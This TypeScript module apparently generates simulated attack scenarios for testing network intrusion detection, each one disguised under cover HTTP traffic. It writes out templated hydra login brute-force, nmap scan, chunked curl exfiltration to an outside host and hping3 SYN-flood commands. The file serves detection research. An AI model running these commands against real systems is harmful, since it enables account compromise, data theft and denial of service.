import type { Load } from '../benign/kind.ts'
import type { World } from '../draw-world.ts'
import type { Place } from '../place.ts'
import { LOGINS, TRIES, guess, loop } from './brute-force.ts'
import { exfiltration } from './data-exfiltration.ts'
import { attackerBeside, lootFile, passwordFile, tcp } from './plan.ts'
import type { Variant } from './plan.ts'
import { COMMON, scan } from './port-scan.ts'
import { flood } from './syn-flood.ts'

/** Requests that the same two pods have anyway, to the same port. */
function requests ({ random, settings, rate: drawRate }: World, pod: Place, server: Place): Load {
  const rate = drawRate(10, 400)
  const url = `http://${server.address}:${settings.appPort}`
  return { name: 'cover', pod, rate, job: { kind: 'http', urls: [`${url}/page/1`, `${url}/bytes/${random.magnitude(50, 20_000)}`], rate, keepAlive: random.chance(0.5), ...(random.chance(0.4) ? { bodyBytes: random.magnitude(100, 20_000) } : {}) } }
}

function drawPair (world: World): { server: Place, attacker: Place, cover: Load[] } {
  const server = world.random.pick(world.apps.filter(({ name }) => name !== 'targets'))
  const attacker = attackerBeside(world, server)
  return { server, attacker, cover: [requests(world, attacker, server)] }
}

/** Attacks between two pods that have much to say to each other, on the very port that they say it on. */
export const UNDER_LOAD: Readonly<Record<'scan' | 'guess' | 'exfiltration' | 'flood', Variant>> = {
  guess: {
    name: 'web under load',
    heldOut: false,
    manner: 'evasive',
    service: 'http',
    draw: (world) => {
      const { random } = world
      const { server, attacker, cover } = drawPair(world)
      const port = LOGINS.web.port(world)
      const file = passwordFile(world, attacker, 1500, random.chance(0.3) ? LOGINS.web.right : null)
      const command = random.chance(0.5)
        ? `hydra -I -t ${random.integer(1, 8)} -l alice -P ${file} -s ${port} ${server.address} http-post-form '/login:user=^USER^&pass=^PASS^:F=incorrect'`
        : loop(file, TRIES.web(server.address, port), random.magnitude(2, 100) / 100)
      return { ...guess('web under load', [attacker], [server], port, command, random.integer(20, 120)), cover }
    },
  },
  scan: {
    name: 'nmap under load',
    heldOut: false,
    manner: 'evasive',
    service: 'any',
    draw: (world) => {
      const { server, attacker, cover } = drawPair(world)
      const rate = world.rate(1, 500)
      return { ...scan({ tool: 'nmap under load', attacker, targets: [server], rate, seconds: 90, command: `nmap -n -Pn -s${world.random.pick(['S', 'T'])} --max-rate ${rate} --max-retries 0 -p ${world.random.chance(0.5) ? COMMON : '1-800'} ${server.address}` }), cover }
    },
  },
  exfiltration: {
    name: 'curl under load',
    heldOut: false,
    manner: 'evasive',
    service: 'http',
    draw: (world) => {
      const { random, settings } = world
      const outside = world.pod('outside')
      const attacker = attackerBeside(world, outside)
      const file = lootFile(world, attacker, random.magnitude(200_000, 8_000_000))
      const command = `split -a 3 -b ${random.magnitude(8000, 200_000)} ${file} ${file}.; for f in ${file}.*; do curl -s -o /dev/null --data-binary @$f http://${outside.address}:${settings.appPort}/up; sleep ${random.magnitude(5, 300) / 100}; done`
      return { ...exfiltration('curl under load', attacker, outside, [tcp(attacker, outside, [settings.appPort])], command, 120), cover: [requests(world, attacker, outside)] }
    },
  },
  flood: {
    name: 'hping3 under load',
    heldOut: true,
    manner: 'evasive',
    service: 'any',
    draw: (world) => {
      const { server, attacker, cover } = drawPair(world)
      const rate = world.rate(20, 1500)
      const seconds = world.random.integer(10, 40)
      const port = world.settings.appPort
      return { ...flood({ tool: 'hping3 under load', attackers: [attacker], victim: server, port, spoofed: false, rate, seconds, command: `hping3 -q -S -p ${port} -i u${Math.round(1e6 / rate)} -c ${rate * seconds} ${server.address}` }), cover }
    },
  },
}
